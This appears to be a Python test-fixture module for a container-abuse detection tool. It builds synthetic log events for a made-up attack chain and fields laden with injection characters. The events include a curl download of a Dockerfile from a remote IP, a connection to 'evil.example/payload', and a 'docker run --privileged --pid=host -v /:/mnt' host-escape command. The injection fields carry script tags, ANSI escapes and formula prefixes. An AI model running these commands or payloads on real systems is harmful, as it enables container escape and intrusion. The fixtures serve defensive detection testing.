"""What tests give to writers: findings and incidents of made-up events, and their context."""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from functools import partial
from typing import Any

from attrs import evolve

from t1612core import AUTO, Detector, Finding, Profile, correlate
from t1612core.allowlist import AllowList
from t1612core.engine.labelling import Labels
from t1612core.incident import Incident
from t1612core.knowledge.attack import VERSION
from t1612core.knowledge.profiles import HARDENED
from t1612core.output.formats import FORMATS
from t1612core.output.told import Context, Found, Of, Told
from t1612core.summary.identity import event_id
from t1612core.techniques import technique

BUILD: Mapping[str, Any] = {
    "TimeGenerated": "2026-03-04T02:11:34.662Z",
    "DeviceName": "shop-web-2",
    "AccountName": "www-data",
    "FileName": "docker",
    "FolderPath": "/usr/bin/docker",
    "ProcessId": 4242,
    "ProcessCommandLine": "docker build --no-cache -q -t alpine:3 /dev/shm/.x/",
    "InitiatingProcessFileName": "sh",
    "InitiatingProcessCommandLine": "sh",
    "InitiatingProcessId": 4200,
    "InitiatingProcessParentFileName": "php-fpm8.2",
}
FILE: Mapping[str, Any] = {
    "TimeGenerated": "2026-03-04T02:11:26Z",
    "DeviceName": "shop-web-2",
    "ActionType": "FileCreated",
    "FileName": "Dockerfile",
    "FolderPath": "/dev/shm/.x/",
    "InitiatingProcessFileName": "curl",
    "InitiatingProcessCommandLine": "curl -so /dev/shm/.x/Dockerfile http://198.51.100.23/d",
    "InitiatingProcessAccountName": "www-data",
}
EGRESS: Mapping[str, Any] = {
    "TimeGenerated": "2026-03-04T02:11:38.997Z",
    "DeviceName": "shop-web-2",
    "ActionType": "ConnectionSuccess",
    "InitiatingProcessFileName": "dockerd",
    "RemoteIP": "203.0.113.23",
    "RemotePort": 8080,
    "RemoteUrl": "http://evil.example/payload",
}
DEPLOY: Mapping[str, Any] = {
    **BUILD,
    "TimeGenerated": "2026-03-04T02:12:15.230Z",
    "ProcessCommandLine": "docker run -d --privileged --pid=host -v /:/mnt alpine:3",
}
EVERYDAY: Mapping[str, Any] = {
    **BUILD,
    "AccountName": "jo",
    "ProcessCommandLine": "docker build --no-cache -t app /tmp/app",
    "InitiatingProcessFileName": "bash",
    "InitiatingProcessParentFileName": "sshd",
}
REQUEST: Mapping[str, Any] = {
    "_raw": "Mar 04 02:11:34 shop-web-2 dockerd[7]: "
    'time="2026-03-04T02:11:34.1Z" level=debug msg="Calling POST /v1.43/build?t=x"'
}
# What would run, hide, reorder, part a line or a field, or close a text.
SIGNS = "\x1b[2J\r\n\u202e\u2028\x9b\t|=\\\\;\"'`{0}[x](https://evil.example)<script>%0a\ud800"
HOSTILE = (
    {
        **BUILD,
        "DeviceName": f"=h{SIGNS}",
        "AccountName": f"@a{SIGNS}",
        "ProcessCommandLine": f"docker build -t x{SIGNS} /dev/shm/.x",
    },
    {**FILE, "FolderPath": f"/dev/shm/.x{SIGNS}/", "DeviceName": "\u3164\n"},
    {**EGRESS, "RemoteUrl": f"evil.example{SIGNS}) (:1):2"},
)
CHAIN = (FILE, BUILD, EGRESS, DEPLOY)
LIST = """
version = 1

[[entry]]
id = "nightly"
reason = "nightly rebuild"
owner = "platform"
created = 2026-02-01
expires = 2026-06-01
kinds = ["process", "file"]
match = [
  { field = "host", op = "equals", value = "shop-web-2" },
  { field = "account", op = "equals", value = "jo" },
]
effect = { action = "suppress" }
"""


def context(of: Of = "findings", **changes: Any) -> Context:
    """Give what a writer is told beside what it writes."""
    made = Context(
        of=of,
        version="0.1.1",
        attack_version=VERSION,
        technique=partial(technique, version=VERSION),
    )
    return evolve(made, **changes)


def found(
    event: Mapping[str, Any],
    line: int = 1,
    *,
    profile: Profile = HARDENED,
    allowlist: AllowList | None = None,
    file: str = "events.jsonl",
) -> Found:
    """Give the finding that an event is."""
    detector = Detector(profile, AUTO, allowlist)
    route, row = detector.locate(event)
    finding = detector.find(row, route)
    assert finding is not None, event
    row, schema = finding.event, detector.schema_of(route)
    return Found(finding, file, line, event_id(row), Labels().of(row, finding.kind, schema))


def of_finding(finding: Finding) -> Found:
    """Give a finding with nothing beside it."""
    return Found(finding, "events.jsonl", 1)


def incidents(events: Iterable[Mapping[str, Any]] = CHAIN) -> list[Incident]:
    """Give the incidents that events make."""
    return correlate(events)


def text(name: str, told: Iterable[Told], of: Of = "findings", **changes: Any) -> str:
    """Give all that a format writes."""
    return "".join(FORMATS[name].write(told, context(of, **changes)))
